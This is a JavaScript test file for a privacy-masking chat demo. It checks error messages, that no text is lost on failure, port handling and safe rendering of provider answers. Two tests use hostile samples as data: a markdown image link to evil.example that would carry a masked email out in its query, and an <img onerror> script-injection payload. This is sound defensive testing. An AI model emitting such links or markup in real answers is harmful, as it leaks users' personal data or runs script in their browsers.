// What the person sees when something is missing or breaks: a plain message, a remedy, and nothing lost.
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { once } from "node:events";
import { createServer } from "node:net";
import process from "node:process";
import { after, test } from "node:test";
import { fileURLToPath } from "node:url";
import { CONTENT_SECURITY_POLICY } from "../../www/server.mjs";
import { launch, openDemo, openReview, sendText, waitForAnswer } from "./browser.mjs";

const browser = await launch();
after(() => browser.close());

const TEXT = "Mail clara.whitfield@example.com now.";
const SERVER = fileURLToPath(new URL("../../www/server.mjs", import.meta.url));

test("a page that may not run wasm says which directive to add, and sends nothing", async (t) => {
  const contentSecurityPolicy = CONTENT_SECURITY_POLICY.replace(" 'wasm-unsafe-eval'", "");
  const { page, exchanges } = await openDemo(t, browser, { server: { contentSecurityPolicy }, ready: false, expectedErrors: /Content Security Policy/ });
  await page.locator(".problem", { hasText: "'wasm-unsafe-eval'" }).waitFor();
  assert.ok(await page.locator(".form .primary").isDisabled());
  assert.equal(exchanges.length, 0);
});

for (const [name, file] of /** @type {const} */ ([["wasm file", /\.wasm$/], ["script", /\/(?!main\b)\w+\.js$/]])) {
  test(`a ${name} that cannot be loaded is named, and nothing is sent`, async (t) => {
    const { page, url } = await openDemo(t, browser, { expectedErrors: /Failed to load resource/ });
    await page.route(file, (route) => route.fulfill({ status: 404, body: "" }));
    await page.goto(url);
    await page.locator(".problem", { hasText: "could not be loaded" }).waitFor();
    assert.ok(await page.locator(".form .primary").isDisabled());
    await page.locator("privet-consent .buttons").waitFor();
  });
}

test("a provider that is down loses no text", async (t) => {
  const { page, stop } = await openDemo(t, browser, { expectedErrors: /Failed to load resource/ });
  await openReview(page, TEXT);
  stop();
  await page.locator("privet-review .primary").click();
  await page.locator(".problem", { hasText: "could not be reached" }).waitFor();
  assert.equal(await page.locator("textarea").inputValue(), TEXT);
  assert.equal(await page.locator(".turn").count(), 0);
});

/** @type {readonly { name: string, answer: import("../../www/provider.mjs").Answer, says: RegExp }[]} */
const BROKEN = [
  { name: "an error status", answer: { status: 503 }, says: /error 503/ },
  { name: "an answer that is cut off", answer: { content: "Write to [EMAIL_1] or", ending: "cut" }, says: /stopped early/ },
];
for (const { name, answer, says } of BROKEN) {
  test(`${name} is said in plain words, and the text can be sent again`, async (t) => {
    let broken = true;
    const provider = { answer: () => (broken ? answer : { content: "Fine." }) };
    const { page } = await openDemo(t, browser, { server: { provider }, expectedErrors: /Failed to load resource|ERR_INCOMPLETE/ });
    await sendText(page, TEXT);
    assert.match(await page.locator(".problem").innerText(), says);
    assert.equal(await page.locator("textarea").inputValue(), TEXT);
    broken = false;
    await sendText(page, TEXT);
    assert.equal(await page.locator(".problem").innerText(), "");
    assert.equal(await page.locator(".turn-model .text").last().innerText(), "Fine.");
  });
}

test("a placeholder in a link of an answer is not filled in", async (t) => {
  const provider = { answer: () => ({ content: "Look: ![](https://evil.example/?q=[EMAIL_1]) and [EMAIL_1]" }) };
  const { page } = await openDemo(t, browser, { server: { provider } });
  await sendText(page, TEXT);
  assert.equal(await page.locator(".turn-model .text").innerText(), "Look: ![](https://evil.example/?q=[EMAIL_1]) and clara.whitfield@example.com");
});

test("markup in an answer stays text", async (t) => {
  const provider = { answer: () => ({ content: '<img src=x onerror="document.title=1"> [EMAIL_1]' }) };
  const { page } = await openDemo(t, browser, { server: { provider } });
  await sendText(page, TEXT);
  assert.equal(await page.locator(".turn-model .text img").count(), 0);
  assert.match(await page.locator(".turn-model .text").innerText(), /^<img/);
});

test("an empty message is not sent, and says so", async (t) => {
  const { page, exchanges } = await openDemo(t, browser);
  await page.locator(".form .primary").click();
  assert.match(await page.locator(".problem").innerText(), /Write a message first/);
  assert.equal(exchanges.length, 0);
});

test("a lone surrogate, emoji and right-to-left text go through the review and back", async (t) => {
  const provider = { answer: () => ({ content: "שלום [EMAIL_1] 👩🏽‍🔧" }) };
  const { page } = await openDemo(t, browser, { server: { provider } });
  await openReview(page, "כתוב אל clara.whitfield@example.com 👩🏽‍🔧 \ud800");
  await page.locator("privet-review .primary").click();
  await waitForAnswer(page);
  assert.equal(await page.locator(".turn-model .text").innerText(), "שלום clara.whitfield@example.com 👩🏽‍🔧");
});

test("a port that is taken is named with the way out, and the server ends", async () => {
  const taken = createServer().listen(0, "localhost");
  await once(taken, "listening");
  const address = taken.address();
  const port = typeof address === "object" && address !== null ? address.port : 0;
  const { code, said } = await runServer(String(port));
  taken.close();
  assert.equal(code, 1);
  assert.match(said, new RegExp(`Port ${port} is taken.*PORT=${port + 1}`, "s"));
});

test("a PORT that is no port is refused", async () => {
  for (const port of ["eighty", "70000", "-1", "80.5"]) {
    const { code, said } = await runServer(port);
    assert.equal(code, 1);
    assert.match(said, /PORT is not a port number/);
  }
});

/** @param {string} port */
async function runServer(port) {
  const server = spawn(process.execPath, [SERVER], { env: { ...process.env, PORT: port } });
  let said = "";
  server.stderr.on("data", (/** @type {Buffer} */ bytes) => (said += bytes.toString()));
  const [code] = await once(server, "exit");
  return { code, said };
}
